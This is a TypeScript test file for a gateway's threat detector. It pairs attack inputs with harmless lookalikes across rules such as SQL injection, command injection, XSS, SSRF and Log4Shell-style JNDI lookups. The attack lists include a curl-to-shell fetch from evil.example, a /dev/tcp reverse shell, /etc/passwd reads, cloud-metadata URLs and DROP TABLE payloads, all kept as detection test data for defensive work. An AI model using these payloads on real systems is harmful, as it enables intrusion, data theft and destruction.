// Texts that are attacks and texts that are not, rule by rule, without a gateway. What a gateway does with a finding: threats.test.ts beside pipeline.ts.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: texts of others, which are no templates here
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { type ThreatRule, threatRules } from "@sallyport/protocol/snapshot/threat-rule.ts";
import { Judge } from "./judge.ts";
import type { Kind } from "./texts.ts";

const all = { block: threatRules, shadow: [], except: [] };

function foundIn(text: string, kind: Kind = "parameter"): readonly ThreatRule[] {
  const judge = new Judge(all);
  judge.text(text, "query:q", kind);
  return judge.found.map(({ rule }) => rule);
}

function foundInName(name: string): readonly ThreatRule[] {
  const judge = new Judge(all);
  judge.name(name, "query:?");
  return judge.found.map(({ rule }) => rule);
}

/** Each pair: what is refused, and its nearest neighbour that is not. */
const cases: Readonly<
  Partial<Record<ThreatRule, { readonly attacks: readonly string[]; readonly harmless: readonly string[] }>>
> = {
  "sql-injection": {
    attacks: [
      "' or 1=1",
      "' OR '1'='1",
      "x' or 'a'='a",
      "1 or 1=1",
      "1) or (1=1",
      "1 AND 1=2",
      "' oR 1=1 -- ",
      "admin'--",
      "admin' -- x",
      "admin'#",
      "admin'/*",
      "'/**/or/**/1=1",
      "' or\t1\n=\r1",
      "'or(1)=(1)",
      '" or ""="',
      "' or true--",
      "' || '1'='1",
      "' && 1=1#",
      "' or name like '%a%",
      "' or password is not null",
      "' or exists(select 1)",
      "-1 union select 1,2,3",
      "1 UNION ALL SELECT null,null",
      "1 union/**/select/**/user,pass/**/from/**/users",
      "1/*!50000union*/ /*!50000select*/ 1,2",
      "1 union-- \nselect 1,2",
      "1 union(select(1),(2))",
      "1 union select password from users",
      "1+union+select+1,2",
      "1;drop table users",
      "1'; DROP TABLE users;--",
      "1; delete from users where 1=1",
      "1; update users set admin=1",
      "1; exec xp_cmdshell 'dir'",
      "1; waitfor delay '0:0:5'",
      "1 and sleep(5)",
      "1 and ascii(substring((select password from users limit 1),1,1))>64",
      "1,sleep(5)",
      "1 order by 10--",
      "' order by 3#",
      "'='",
      "' like '",
      "1 and 1=(select 1 from dual)",
      "\uff07 or 1=1",
      "\u2019 or 1=1",
      "' \uff4f\uff52 1=1",
      "1 un\u200bion sel\u200bect 1,2",
      "1 union \u017felect 1,2",
      "\\' or 1=1",
      "'' ' or 1=1",
    ],
    harmless: [
      "O'Brien",
      "O'Brien or O'Neill",
      "select a seat",
      "Select one or more options from the list",
      "union dues",
      "The union select committee heard evidence from members",
      "rock 'n' roll or jazz",
      "either 'yes' or 'no' is fine",
      "drop table reservations by phone",
      "update your settings",
      "1 or 2 nights",
      "between 1 and 10",
      "it's the dogs' -- and cats'",
      "the 'quoted' -- phrase",
      "5 > 3 and 2 < 4 holds",
      "C++ and C#",
      "order by 10 am",
      "delete from the basket; insert into slot",
      "L'été d'Étienne",
    ],
  },
  "path-traversal": {
    attacks: [
      "../../etc/passwd",
      "..\\..\\windows\\win.ini",
      "/var/www/../../etc/passwd",
      "..;/admin",
      "....//....//etc/passwd",
      "..",
      "/etc/passwd",
      "c:\\windows\\system32\\drivers",
      "/proc/self/environ",
      "\uff0e\uff0e/x",
      "files/..",
    ],
    harmless: ["reports/2026/q3.pdf", "a..b", "wait... what", "v1..v2", "1...10", "etc/passwords", "./a/b"],
  },
  "command-injection": {
    attacks: [
      "x; cat /etc/passwd",
      "x|id",
      "x && whoami",
      "$(id)",
      "x`id`",
      "x;curl http://evil.example/x|sh",
      "x; c'a't /etc/passwd",
      "x; c\\at /etc/passwd",
      "x;cat${IFS}/etc/passwd",
      "; ping -c 10 example.com",
      "| sleep 10",
      "x; /bin/bash -i",
      "bash -i >& /dev/tcp/10.0.0.1/80 0>&1",
      "() { :;}; /bin/sh -c id",
      "& powershell -enc AAAA",
    ],
    harmless: [
      "cats & dogs; find the differences",
      "R&D | net income",
      "Tom & Jerry; type in your name",
      "id | name",
      "| id | name |",
      "a=1&id=5&type=x",
      "ping me; sleep well",
      "$(document).ready",
      "use curl or wget",
      "salt & pepper; echo chamber",
    ],
  },
  "script-injection": {
    attacks: [
      "<script>alert(1)</script>",
      "<ScRiPt src=x>",
      "<img src=x onerror=alert(1)>",
      "<svg/onload=alert(1)>",
      "<a href='javascript:alert(1)'>",
      "javascript:alert(1)",
      "java\nscript:alert(1)",
      "<iframe src=x>",
      "data:text/html;base64,PHNjcmlwdD4=",
      "\uff1cscript\uff1e",
      "<scr\u200bipt>",
      '<img alt=">" onerror=x>',
    ],
    harmless: [
      "a < b and c > d",
      "<b>bold</b> and <i>italic</i>",
      "I love JavaScript: it is everywhere",
      "conscript on=off",
      "<3 you",
      "x <y> on = off",
      "data: text follows",
    ],
  },
  "template-injection": {
    attacks: [
      "{{7*7}}",
      "${7*7}",
      "#{7*7}",
      "<%= 7*7 %>",
      "{{ ''.__class__.__mro__ }}",
      "{{config}}",
      "${T(java.lang.Runtime).getRuntime().exec('id')}",
      "{{constructor.constructor('x')()}}",
      "{% import os %}{{ os.popen('id') }}",
    ],
    harmless: ["Hello {{name}}", "${name}", "{{ order.total }}", "7*7", "{a: 1}", "exec(x) in prose"],
  },
  "jndi-lookup": {
    attacks: [
      "${jndi:ldap://evil.example/a}",
      "${${lower:j}ndi:ldap://x}",
      "${${::-j}${::-n}di:rmi://x}",
      "${${env:NaN:-j}ndi:ldap://x}",
      "${JnDi:dns://x}",
    ],
    harmless: ["${env:HOME}", "${user.name}", "jndi is a Java API"],
  },
  "server-side-request": {
    attacks: [
      "http://127.0.0.1/",
      "http://localhost:8080/x",
      "http://169.254.169.254/latest/meta-data",
      "http://2130706433/",
      "http://0x7f.1/",
      "http://0177.0.0.1/",
      "http://127.1/",
      "http://[::1]/",
      "http://[::ffff:10.0.0.1]/",
      "http://good.example@127.0.0.1/",
      "http://127.0.0.1\\@good.example/",
      "https:\\\\10.0.0.1\\x",
      "//192.168.1.1/x",
      "http://metadata.google.internal/",
      "http://billing.internal/",
      "http://127.0.0.1.nip.io/",
      "http://\uff11\uff12\uff17.0.0.1/",
      "file:///etc/passwd",
      "gopher://x:70/_",
      "see http://10.1.2.3/x please",
    ],
    harmless: [
      "https://shop.example/a?b=c",
      "http://93.184.216.34/",
      "https://local.example.com/",
      "profile: x",
      "10.0.0.1",
      "https://internal-affairs.example/",
      "ratio 3://4",
    ],
  },
  "nosql-operator": {
    attacks: ['{"$ne": null}', "{'$where': 'sleep(1)'}"],
    harmless: ["costs $ne", "price: $5"],
  },
  "prototype-pollution": {
    attacks: ['{"__proto__": {}}', "constructor.prototype.x", "a['__proto__']"],
    harmless: ["prototype of the constructor", "proto"],
  },
  "crlf-injection": {
    attacks: ["x\r\nSet-Cookie: a=b", "x\nLocation: https://evil.example", "x\rX-Any: y", "x\r\nHTTP/1.1 200 OK"],
    harmless: ["line one\nline two", "a\r\nb"],
  },
  "null-byte": { attacks: ["a\0b", "file.php\0.png"], harmless: ["ab"] },
  "double-encoding": {
    attacks: [
      "%27%20or%201%3d1",
      "%2527%2520or%25201%253d1",
      "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
      "%3Cscript%3E",
      "%u003cscript%u003e",
      "\\u003cscript\\u003e",
      "&#x3c;script&#62;",
      "&lt;script&gt;",
      "%00",
      "%c0%ae%c0%ae%c0%af",
      "%e0%80%af%2e",
      "%25252525252527",
    ],
    harmless: [
      "100% cotton",
      "https://shop.example/?next=https%3A%2F%2Fa.example%2F%3Fq%3Da%2520b",
      "caf%C3%A9",
      "50%25",
      "Tom &amp; Jerry",
    ],
  },
};

for (const [rule, { attacks, harmless }] of Object.entries(cases))
  describe(rule, () => {
    for (const text of attacks)
      test(`attack: ${JSON.stringify(text)} is found`, () => {
        const found: readonly string[] = foundIn(text);
        assert.ok(found.includes(rule), `${text}: ${found.join(", ")}`);
      });
    test("what is near it is not", () => {
      for (const text of harmless) assert.deepEqual(foundIn(text), [], text);
    });
  });

test("every rule has its cases", () => {
  const elsewhere: readonly ThreatRule[] = ["not-judged"];
  assert.deepEqual(
    threatRules.filter((rule) => cases[rule] === undefined && !elsewhere.includes(rule)),
    [],
  );
});

test("attack: names of parameters and members that are operators, or ways to a prototype", () => {
  for (const name of ["$ne", "user[$gt]", "a.$where", "\uff04ne", "%24ne"])
    assert.ok(foundInName(name).includes("nosql-operator"), name);
  for (const name of [
    "__proto__",
    "__proto__[x]",
    "a[__proto__][b]",
    "constructor[prototype][x]",
    "constructor.prototype",
  ])
    assert.ok(foundInName(name).includes("prototype-pollution"), name);
  for (const name of ["$ref", "$schema", "us$", "constructor", "prototype", "filter[name]"])
    assert.deepEqual(foundInName(name), [], name);
});
